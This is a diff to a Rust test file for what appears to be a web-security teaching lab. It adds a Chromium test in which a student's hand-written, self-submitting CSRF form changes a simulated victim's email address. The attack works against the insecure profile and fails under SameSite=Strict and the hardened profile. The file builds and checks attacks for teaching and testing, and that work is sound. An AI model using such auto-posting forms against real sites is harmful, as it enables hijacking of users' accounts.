@@ -2,33 +2,18 @@
 //! the lab's own exfiltration program) runs in her browser, carries her
 //! private note to the student's collector, and the server marks hijack-xss
 //! solved; against hardened the same entry stays text and nothing is solved.
+//! A cookie tossed from the sibling host fixes her session; a CSRF page on
+//! the cross-site host changes her address, against insecure only.
 //!
 //! Needs Debian's `chromium`. Without it the test says so and passes, unless
 //! `SESSIONLAB_REQUIRE_CHROMIUM=1` (set by `.ci/run`), where it fails.
 
 mod common;
 
-use common::{Student, class, note_of, set_cookie_pair};
+use common::{Student, chromium_missing, class, note_of, set_cookie_pair};
 use reqwest::StatusCode;
-use sessionlab_app::ProfileName;
+use sessionlab_app::{Defense, Profile, ProfileName};
 use sessionlab_classroom::BotBrowser;
-
-fn chromium_missing() -> bool {
-    if sessionlab_chromium::find_chromium().is_some() {
-        return false;
-    }
-    let required = std::env::var("SESSIONLAB_REQUIRE_CHROMIUM").is_ok_and(|v| v == "1");
-    assert!(
-        !required,
-        "SESSIONLAB_REQUIRE_CHROMIUM=1 but {}",
-        sessionlab_chromium::ChromiumError::Missing
-    );
-    eprintln!(
-        "skipped: {} (CI installs it)",
-        sessionlab_chromium::ChromiumError::Missing
-    );
-    true
-}
 
 /// Logs in as bob and signs the guestbook with `message`; the app's answer.
 async fn sign_guestbook(student: &Student, message: &str) -> StatusCode {
@@ -194,4 +179,73 @@ async fn a_cookie_tossed_from_the_sibling_host_fixes_alices_session_in_insecure(
     assert!(student.solved("fixation-invented").await);
     assert!(!student.solved("fixation-cookie").await);
     class.shutdown().await;
+}
+
+/// The student's CSRF page on their cross-site host, sent to alice in bob's
+/// message; alice (real Chromium) opens it again once logged in, as the bot
+/// does. What alice's account now says, whether csrf is solved, the lab page.
+async fn csrf_in_chromium(profile: Profile) -> (Option<String>, bool, String) {
+    let mut config = common::config(ProfileName::Insecure, BotBrowser::Chromium);
+    config.profile = profile;
+    let class = common::start_class(config).await;
+    let student = Student::sign_in(&class, "ann").await;
+    let address = format!("ann-{}@evil.test", rand::random::<u32>());
+    // Written by hand, as a student would: a form that posts itself on arrival.
+    let page = format!(
+        "<!DOCTYPE html><title>You won!</title><form method=\"POST\" action=\"http://app.ann.localhost:{}/account/email\">\
+         <input type=\"hidden\" name=\"email\" value=\"{address}\"></form>\
+         <script>document.forms[0].submit()</script>",
+        student.port
+    );
+    let saved = student
+        .hub_post("/lab/page", &[("html", page.as_str())])
+        .await;
+    assert_eq!(saved.status(), StatusCode::SEE_OTHER);
+    student
+        .message_alice(&format!("http://ann.attacker.localhost:{}/", student.port))
+        .await;
+    student.send_alice(false).await;
+    let email = class.class.lab("ann").unwrap().app.handle.email("alice");
+    let changed = email.as_deref() == Some(address.as_str());
+    let solved = student.solved("csrf").await;
+    let page = student.hub_get("/lab").await;
+    assert!(
+        page.contains("(chromium browser)"),
+        "alice used Chromium: {page}"
+    );
+    assert!(
+        page.contains("opened bob&#39;s link again, logged in this time"),
+        "alice opened the page logged in: {page}"
+    );
+    class.shutdown().await;
+    (changed.then_some(address), solved, page)
+}
+
+/// CSRF in real Chromium: against insecure (no SameSite attribute; Chromium
+/// sends a cookie under two minutes old with a cross-site top-level POST) the
+/// student's page changes alice's address and the server marks csrf solved.
+/// The same page fails where only Chromium's cookie rule stops it
+/// (`insecure --with same-site-strict`) and against hardened.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_csrf_page_of_the_students_own_changes_alices_address_in_insecure_only() {
+    if chromium_missing() {
+        return;
+    }
+    let (changed, solved, page) = csrf_in_chromium(Profile::new(ProfileName::Insecure)).await;
+    assert!(
+        changed.is_some(),
+        "alice's address is the student's: {page}"
+    );
+    assert!(solved, "csrf solved against insecure: {page}");
+    let strict = Profile::new(ProfileName::Insecure).with(Defense::SameSiteStrict);
+    let (changed, solved, page) = csrf_in_chromium(strict).await;
+    assert!(
+        changed.is_none() && !solved,
+        "SameSite=Strict: Chromium sent no cookie, nothing changed: {page}"
+    );
+    let (changed, solved, page) = csrf_in_chromium(Profile::new(ProfileName::Hardened)).await;
+    assert!(
+        changed.is_none() && !solved,
+        "hardened: nothing changed: {page}"
+    );
 }
